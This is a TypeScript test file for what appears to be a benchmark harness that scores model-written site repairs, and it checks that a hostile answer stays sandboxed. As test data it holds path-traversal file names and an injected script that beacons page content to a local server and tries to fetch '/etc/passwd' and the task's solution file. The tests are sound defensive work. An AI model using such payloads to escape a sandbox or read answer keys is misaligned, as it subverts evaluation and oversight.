import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { RepairInstance } from '../../annotate/repair/instance.js';
import type { ReleasedTask } from '../../exports/release/released-task.js';
import { CaptureBench } from '../support/capture.js';
import { temporaryDirectory } from '../support/freshet.js';
import { certifiedTask } from '../support/repair-release.js';
import { goldPatch, ScoredRun } from '../support/scored-run.js';

const bench = new CaptureBench();
let task: ReleasedTask;
let instance: RepairInstance;
beforeAll(async () => {
  task = await certifiedTask(bench.tools, 2);
  const solution = await bench.blobs.get(task.solution);
  instance = RepairInstance.parse(JSON.parse(solution.toString('utf8')));
}, 120_000);

const block = (path: string, search: string, replace: string) =>
  `<search_replace path="${path}"><search>${search}</search><replace>${replace}</replace></search_replace>`;

/** A server on this machine that nobody must reach, and what asked for it all the same. */
async function forbiddenServer(): Promise<{ address: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('reached');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

describe('a hostile answer', () => {
  it('writes nowhere but into its own copy of the site, and every block is accounted for', async () => {
    const outside = join(await temporaryDirectory(), 'outside');
    await mkdir(outside);
    await writeFile(join(outside, 'kept.txt'), 'kept');
    const paths = [
      '../../../../../../tmp/escaped.html',
      join(outside, 'written.html'),
      'index.html/../../x.html',
      'C:\\windows\\x.html',
      'index.html/inside.html',
      'a\u0000b.html',
    ];
    const text = [
      ...paths.map((path) => block(path, '', 'escaped')),
      goldPatch(instance),
      '<search_replace path="style.css"><search>never closed',
    ].join('\n');
    const scored = await ScoredRun.make(bench, [task], [{ model: 'm', task: task.id, text }]);
    await scored.score();
    const steps = await scored.run.all('steps', { stage: 'apply' });
    expect(steps.map(({ status }) => status)).toEqual([
      ...paths.map(() => 'invalid'),
      ...instance.defects.map(() => 'ok'),
      'invalid',
    ]);
    expect(steps.every(({ status, reason }) => status === 'ok' || reason !== null)).toBe(true);
    expect(await readdir(outside)).toEqual(['kept.txt']);
    // What else was in the answer counts as if the rest were not there.
    expect(await scored.values('m', task.id)).toMatchObject({ 'behaviour/defects-repaired': 1 });
  }, 60_000);

  it('that is too large is invalid, with stage and reason', async () => {
    const text = block('new.html', '', 'x'.repeat(5_000_000));
    const scored = await ScoredRun.make(bench, [task], [{ model: 'm', task: task.id, text }]);
    await scored.score();
    expect(await scored.run.all('steps')).toMatchObject([
      { stage: 'apply', status: 'invalid', reason: expect.stringMatching(/more than/) },
    ]);
    const values = Object.values(await scored.values('m', task.id));
    expect(new Set(values)).toEqual(new Set(['invalid']));
  });

  it('reaches neither the network nor the answers from inside the page', async () => {
    const { address, asked } = await forbiddenServer();
    const script = `<script>
      const tries = ['${address}/stolen', '/../solution.json', 'file:///etc/passwd',
        'http://site.localhost/solution', '/.freshet/run.duckdb', 'index.html.bak'];
      new Image().src = '${address}/picture';
      navigator.sendBeacon('${address}/beacon', document.body.innerHTML);
      new WebSocket('${address.replace('http', 'ws')}/socket').onerror = () => {};
      Promise.all(tries.map((one) => fetch(one).then((r) => r.ok ? 'got ' + one : '', () => '')))
        .then((got) => { document.title = 'got: ' + got.filter(Boolean).join(' '); });
    </script></body>`;
    const text = `${goldPatch(instance)}\n${block('index.html', '</body>', script)}`;
    const scored = await ScoredRun.make(bench, [task], [{ model: 'm', task: task.id, text }]);
    await scored.score();
    expect(asked).toEqual([]);
    const seen = await readdir(join(scored.run.directory, 'seen'));
    expect(seen.length).toBeGreaterThan(0);
    const [measured] = await scored.run.all('steps', { stage: 'render' });
    expect(measured?.status).toBe('ok');
    const values = await scored.values('m', task.id);
    // The title has changed and requests have failed: that is told as what it is.
    expect(values['behaviour/regressions']).toBeGreaterThan(0);
    expect(measured?.detail).toMatchObject({ title: 'got:' });
  }, 60_000);
});
